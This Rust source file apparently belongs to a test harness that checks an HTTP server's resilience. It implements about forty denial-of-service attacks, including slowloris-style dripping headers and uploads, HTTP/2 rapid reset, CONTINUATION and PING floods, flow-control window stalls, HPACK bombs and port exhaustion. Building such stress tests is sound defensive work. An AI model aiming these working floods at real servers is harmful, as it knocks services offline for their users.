//! What attackers do. Each goes on until it is told to stop, and begins again when the server has had enough of it.

use crate::{
    h2peer::*,
    process::{
        self,
        Target::{self, Clear, Few, Tls},
    },
    tls,
};
use rustix::net::{AddressFamily, SocketType, sockopt};
use std::{
    io::{self, ErrorKind, Read, Write},
    net::{SocketAddr, TcpStream},
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::Duration,
};

/// Attacks a server until `stop`.
pub type Attack = fn(SocketAddr, &AtomicBool);

/// The name, the server it is for, and what is done.
pub const ATTACKS: [(&str, Target, Attack); 42] = [
    ("nothing", Clear, |_, stop| {
        while !stop.load(Ordering::SeqCst) {
            pause()
        }
    }),
    ("connections that say nothing", Clear, |address, stop| drip(address, stop, 500, |_| Vec::new(), &[])),
    ("more connections than there are places", Clear, |address, stop| {
        drip(address, stop, 1500, |_| b"GET / HTTP/1.1\r\nHost: x\r\nA: ".to_vec(), b"a");
    }),
    // Whoever comes is behind some hundred in the kernel's queue, and each of those needs another's place.
    ("more connections than there are descriptors", Few, |address, stop| {
        drip(address, stop, 400, |_| b"GET / HTTP/1.1\r\nHost: x\r\nA: ".to_vec(), b"a");
    }),
    ("readers of one address that stall, more than there are descriptors", Few, |address, stop| {
        let ask = |_| b"GET /stream HTTP/1.1\r\nHost: x\r\n\r\n".to_vec();
        drip_by(from_elsewhere, address, stop, 400, ask, &[]);
    }),
    ("heads that drip", Clear, |address, stop| {
        drip(address, stop, 300, |_| b"GET / HTTP/1.1\r\nHost: x\r\nA: ".to_vec(), b"a");
    }),
    ("HTTP/2 heads that drip", Clear, |address, stop| {
        let head = Frame::new(HEADERS, 0, 1, []);
        let more = Frame::new(CONTINUATION, 0, 1, []).bytes();
        drip(address, stop, 300, move |_| opening(&[], std::slice::from_ref(&head)), &more);
    }),
    ("TLS handshakes that stall", Tls, |address, stop| {
        drip(address, stop, 300, |_| b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(), b"a");
    }),
    ("heads that drip over TLS", Tls, heads_over_tls),
    ("uploads that drip", Clear, |address, stop| {
        drip(
            address,
            stop,
            400,
            |_| b"POST /read HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n".to_vec(),
            b"a",
        );
    }),
    ("HTTP/2 uploads that drip, 10 x 32", Clear, |address, stop| {
        let begin: Vec<_> = (0..32).map(|n| request(2 * n + 1, 0, "POST", "/read")).collect();
        let more: Vec<_> = (0..32).map(|n| Frame::data(2 * n + 1, b"a")).collect();
        drip(address, stop, 10, move |_| opening(&[], &begin), &concat(&more));
    }),
    ("HTTP/2 uploads that drip, 100 x 100", Clear, |address, stop| {
        let begin: Vec<_> = (0..100).map(|n| request(2 * n + 1, 0, "POST", "/read")).collect();
        drip(address, stop, 100, move |_| opening(&[], &begin), &Frame::data(1, b"a").bytes());
    }),
    ("readers that stall", Clear, |address, stop| {
        let ask = |n: usize| {
            let path = if n % 2 == 0 { "/large" } else { "/stream" };
            format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").into_bytes()
        };
        drip(address, stop, 64, ask, &[]);
    }),
    // Some places are left for the client that behaves, whose connections come and go.
    ("1,000 stalled readers of large answers", Clear, |address, stop| {
        let ask = |n: usize| {
            let path = if n % 2 == 0 { "/large" } else { "/file" };
            format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").into_bytes()
        };
        drip_by(from_elsewhere, address, stop, 1000, ask, &[]);
    }),
    ("stalled readers of large answers over TLS", Tls, readers_over_tls),
    ("HTTP/2 readers that stall, 50 x 100", Clear, |address, stop| {
        let mut ask: Vec<_> = (0..100).map(|n| get(2 * n + 1, if n % 2 == 0 { "/large" } else { "/file" })).collect();
        ask.insert(0, Frame::window_update(0, 0x7fff_0000));
        drip(address, stop, 50, move |_| opening(&[(INITIAL_WINDOW_SIZE, 0x7fff_ffff)], &ask), &[]);
    }),
    ("windows that stay shut, 50 x 100", Clear, |address, stop| {
        let ask: Vec<_> = (0..100).map(|n| get(2 * n + 1, if n % 2 == 0 { "/large" } else { "/file" })).collect();
        drip(address, stop, 50, move |_| opening(&[(INITIAL_WINDOW_SIZE, 0)], &ask), &[]);
    }),
    // As many streams as all places together allow.
    ("HTTP/2 readers that stall, 1,000 x 100", Clear, |address, stop| {
        stall(address, stop, Windows::Open, |n| if n % 2 == 0 { "/large" } else { "/file" });
    }),
    ("windows that stay shut, 1,000 x 100", Clear, |address, stop| {
        stall(address, stop, Windows::Shut, |n| if n % 2 == 0 { "/large" } else { "/file" });
    }),
    ("HTTP/2 readers of pages that stall, 1,000 x 100", Clear, |address, stop| {
        stall(address, stop, Windows::Shut, |_| "/page");
    }),
    ("HTTP/2 readers of what is written, 1,000 x 100", Clear, |address, stop| {
        stall(address, stop, Windows::Open, |_| "/stream");
    }),
    ("windows that stay shut to what is written, 1,000 x 100", Clear, |address, stop| {
        stall(address, stop, Windows::Shut, |_| "/stream");
    }),
    ("1,000 stalled readers of what is written", Clear, |address, stop| {
        let ask = |_| b"GET /stream HTTP/1.1\r\nHost: x\r\n\r\n".to_vec();
        drip_by(from_elsewhere, address, stop, 1000, ask, &[]);
    }),
    ("uploads that nobody reads", Clear, |address, stop| {
        let ask = |_| {
            let head = b"POST /both HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n";
            [&head[..], &[b'a'; 300_000]].concat()
        };
        drip_by(from_elsewhere, address, stop, 1000, ask, &[]);
    }),
    // As much as the protocol allows them before they are told anything.
    ("HTTP/2 uploads that nobody reads, 1,000 x 64 KB", Clear, |address, stop| {
        let frames = |stream| [request(stream, 0, "POST", "/both"), Frame::data(stream, &[b'a'; 16_000])];
        let begin = opening(&[(INITIAL_WINDOW_SIZE, 0)], &[1, 3, 5, 7].map(frames).concat());
        drip_by(from_elsewhere, address, stop, 1000, move |_| begin.clone(), &[]);
    }),
    ("windows that stay shut", Clear, |address, stop| {
        let ask: Vec<_> = (0..100).map(|n| get(2 * n + 1, if n % 2 == 0 { "/large" } else { "/stream" })).collect();
        drip(address, stop, 10, move |_| opening(&[(INITIAL_WINDOW_SIZE, 0)], &ask), &[]);
    }),
    ("windows that open byte by byte", Clear, |address, stop| {
        let ask: Vec<_> = (0..100).map(|n| get(2 * n + 1, "/large")).collect();
        let more: Vec<_> = (0..100).map(|n| Frame::window_update(2 * n + 1, 1)).collect();
        drip(address, stop, 10, move |_| opening(&[(INITIAL_WINDOW_SIZE, 0)], &ask), &concat(&more));
    }),
    ("requests without an end to reading", Clear, |address, stop| {
        flood(address, stop, &[], |_| b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".repeat(100));
    }),
    ("connections that come and go", Clear, |address, stop| {
        for n in (0..32).cycle().take_while(|_| !stop.load(Ordering::SeqCst)) {
            let Ok(socket) = TcpStream::connect(address) else { continue };
            // One that ends in order takes a port of the address for a minute. With tens of thousands of those the client that behaves,
            // which is here too, would look for a free one for milliseconds, whatever the server does.
            if n > 0 {
                let _ = sockopt::set_socket_linger(&socket, Some(Duration::ZERO));
            }
        }
    }),
    ("rapid reset", Clear, |address, stop| {
        frames(address, stop, |n| vec![get(2 * n + 1, "/"), Frame::reset(2 * n + 1, CANCEL)])
    }),
    ("made to reset", Clear, |address, stop| {
        frames(address, stop, |n| vec![request(2 * n + 1, 0, "POST", "/read"), Frame::window_update(2 * n + 1, 0)]);
    }),
    ("PING", Clear, |address, stop| frames(address, stop, |n| vec![Frame::ping(u64::from(n).to_be_bytes())])),
    ("answers to no PING", Clear, |address, stop| {
        frames(address, stop, |n| vec![Frame::ping_ack(&n.to_be_bytes().repeat(2))])
    }),
    ("frames of no known type", Clear, |address, stop| {
        frames(address, stop, |_| vec![Frame::new(0x2a, 0, 0, [0; 100])])
    }),
    ("GOAWAY", Clear, |address, stop| frames(address, stop, |_| vec![Frame::goaway(0, 0, b"")])),
    ("SETTINGS", Clear, |address, stop| frames(address, stop, |_| vec![Frame::settings(&[])])),
    ("PRIORITY", Clear, |address, stop| {
        frames(address, stop, |n| vec![Frame::new(PRIORITY, 0, 2 * n + 1, [0, 0, 0, 0, 1])])
    }),
    ("empty DATA", Clear, |address, stop| {
        frames(address, stop, |n| vec![if n == 0 { request(1, 0, "POST", "/read") } else { Frame::data(1, b"") }]);
    }),
    ("CONTINUATION", Clear, |address, stop| {
        frames(address, stop, |n| {
            vec![if n == 0 { Frame::new(HEADERS, 0, 1, []) } else { Frame::new(CONTINUATION, 0, 1, [0; 10]) }]
        });
    }),
    ("WINDOW_UPDATE", Clear, |address, stop| frames(address, stop, |_| vec![Frame::window_update(0, 1)])),
    ("HPACK bomb", Clear, |address, stop| frames(address, stop, bomb)),
    ("HPACK bombs in trailers", Clear, |address, stop| {
        frames(address, stop, |n| {
            if n == 0 {
                return bomb(0);
            }
            vec![
                request(2 * n + 1, 0, "POST", "/read"),
                Frame::new(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, vec![0xbe; 16_000]),
            ]
        });
    }),
];

/// How long an attacker that drips waits between two drops.
fn pause() {
    thread::sleep(Duration::from_millis(20));
}

fn request(stream: u32, flags: u8, method: &str, path: &str) -> Frame {
    let fields = [(":method", method), (":scheme", "http"), (":authority", "x"), (":path", path)];
    Frame::headers(stream, flags, &fields)
}

fn get(stream: u32, path: &str) -> Frame {
    request(stream, END_STREAM, "GET", path)
}

/// A request whose head is put into the table with a value of 4000 bytes, and one that names it thousands of times.
fn bomb(n: u32) -> Vec<Frame> {
    let mut block = vec![0x82, 0x86, 0x84, 0x41, 1, b'x'];
    if n == 0 {
        // A literal with a new name, indexed: its length is 127 and 3873 more.
        block.extend([0x40, 1, b'a', 0x7f, 0xa1, 0x1e]);
        block.extend([b'b'; 4000]);
    } else {
        block.extend([0xbe; 16_000]);
    }
    vec![Frame::new(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, block)]
}

/// As many connections as a server has workers several times over, each with a head that does not end, over TLS.
fn heads_over_tls(address: SocketAddr, stop: &AtomicBool) {
    let config = tls::anyone(&[]);
    let connect = || {
        let socket = TcpStream::connect_timeout(&address, Duration::from_secs(1)).ok()?;
        socket.set_read_timeout(Some(Duration::from_secs(1))).ok()?;
        Some(tls::connect(socket, address, &config))
    };
    let mut sessions = Vec::new();
    sessions.resize_with(100, || None);
    while !stop.load(Ordering::SeqCst) {
        for place in sessions.iter_mut().take_while(|_| !stop.load(Ordering::SeqCst)) {
            let begins = place.is_none();
            let session = place.take().or_else(connect);
            let more: &[u8] = if begins { b"GET / HTTP/1.1\r\nHost: x\r\nA: " } else { b"a" };
            *place = session.and_then(|mut session| {
                session.write_all(more).and_then(|()| session.flush()).ok()?;
                Some(session)
            });
        }
        pause();
    }
}

/// Many readers of large answers that read nothing of them, over TLS.
fn readers_over_tls(address: SocketAddr, stop: &AtomicBool) {
    let config = tls::anyone(&[]);
    let mut sessions = Vec::new();
    let most = 300.min(process::descriptors() / 2);
    while !stop.load(Ordering::SeqCst) {
        if sessions.len() == most {
            pause();
            continue;
        }
        let path = if sessions.len() % 2 == 0 { "/large" } else { "/file" };
        let Ok(socket) = TcpStream::connect_timeout(&address, Duration::from_secs(1)) else { continue };
        let _ = socket.set_read_timeout(Some(Duration::from_secs(1)));
        let mut session = tls::connect(socket, address, &config);
        let ask = format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n");
        if session.write_all(ask.as_bytes()).and_then(|()| session.flush()).is_ok() {
            sessions.push(session);
        }
    }
}

/// How much of the answers the windows of a connection allow.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Windows {
    Open,
    Shut,
}

/// A thousand connections of HTTP/2 with a hundred requests each, from another address than that of the client that behaves, for whose
/// connections some places are left. Nothing is read.
fn stall(address: SocketAddr, stop: &AtomicBool, windows: Windows, path: fn(u32) -> &'static str) {
    let mut ask: Vec<_> = (0..100).map(|n| get(2 * n + 1, path(n))).collect();
    let window = match windows {
        Windows::Open => 0x7fff_ffff,
        Windows::Shut => 0,
    };
    if windows == Windows::Open {
        ask.insert(0, Frame::window_update(0, 0x7fff_0000));
    }
    let begin = opening(&[(INITIAL_WINDOW_SIZE, window)], &ask);
    drip_by(from_elsewhere, address, stop, 1000, move |_| begin.clone(), &[]);
}

/// The beginning of a connection, and some frames.
fn opening(settings: &[(u16, u32)], frames: &[Frame]) -> Vec<u8> {
    [PREFACE, &Frame::settings(settings).bytes(), &Frame::settings_ack().bytes(), &concat(frames)].concat()
}

fn from_here(address: SocketAddr) -> io::Result<TcpStream> {
    TcpStream::connect_timeout(&address, Duration::from_secs(1))
}

/// Connects from another address than the client that behaves has.
fn from_elsewhere(address: SocketAddr) -> io::Result<TcpStream> {
    let socket = rustix::net::socket(AddressFamily::INET, SocketType::STREAM, None)?;
    rustix::net::bind(&socket, &SocketAddr::from(([127, 0, 0, 2], 0)))?;
    rustix::net::connect(&socket, &address)?;
    Ok(TcpStream::from(socket))
}

/// Keeps so many connections open, each with its beginning, and adds a drop to every one of them now and then.
fn drip(address: SocketAddr, stop: &AtomicBool, connections: usize, begin: impl Fn(usize) -> Vec<u8>, drop: &[u8]) {
    drip_by(from_here, address, stop, connections, begin, drop);
}

fn drip_by(
    connect: fn(SocketAddr) -> io::Result<TcpStream>,
    address: SocketAddr,
    stop: &AtomicBool,
    connections: usize,
    begin: impl Fn(usize) -> Vec<u8>,
    drop: &[u8],
) {
    // The client that behaves is in this process too.
    let connections = connections.min(process::descriptors() / 2);
    let mut sockets: Vec<Option<TcpStream>> = Vec::new();
    while !stop.load(Ordering::SeqCst) {
        if sockets.len() < connections {
            sockets.resize_with(connections, || None);
        }
        for (n, place) in sockets.iter_mut().enumerate() {
            if stop.load(Ordering::SeqCst) {
                return;
            }
            let sent = match place {
                Some(socket) => drop.is_empty() || socket.write_all(drop).is_ok(),
                None => {
                    let Ok(mut socket) = connect(address) else { continue };
                    let sent = socket.write_all(&begin(n)).is_ok();
                    *place = Some(socket);
                    sent
                }
            };
            if !sent {
                *place = None;
            }
        }
        pause();
    }
}

/// Sends frames in bursts as fast as they are taken.
fn frames(address: SocketAddr, stop: &AtomicBool, burst: impl Fn(u32) -> Vec<Frame>) {
    flood(address, stop, &opening(&[], &[]), |n| {
        (n * 10..n * 10 + 10).flat_map(&burst).flat_map(|frame| frame.bytes()).collect()
    });
}

/// Sends bursts as fast as they are taken, reading what is there, and begins again when the server has closed the connection.
fn flood(address: SocketAddr, stop: &AtomicBool, begin: &[u8], burst: impl Fn(u32) -> Vec<u8>) {
    while !stop.load(Ordering::SeqCst) {
        let Ok(mut socket) = TcpStream::connect(address) else { continue };
        let _ = socket.set_write_timeout(Some(Duration::from_millis(50)));
        let mut sent = socket.write_all(begin).is_ok();
        let mut n = 0;
        while sent && !stop.load(Ordering::SeqCst) {
            sent = match socket.write_all(&burst(n)) {
                Ok(()) => true,
                // The server does not read on until we do, which is not what we came for.
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                    let _ = socket.set_read_timeout(Some(Duration::from_millis(1)));
                    let _ = socket.read(&mut [0; 4096]);
                    false
                }
                Err(_) => false,
            };
            n += 1;
        }
    }
}
